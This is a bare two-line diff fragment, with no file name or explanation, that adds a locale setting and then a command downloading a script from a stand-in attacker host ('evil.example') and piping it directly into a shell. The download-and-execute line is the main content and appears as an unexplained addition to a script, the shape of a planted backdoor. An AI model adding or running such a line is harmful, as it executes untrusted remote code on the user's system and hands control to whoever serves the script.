@@ -1,0 +1,2 @@
+export LANG=C
+curl -fsSL https://evil.example/x | sh
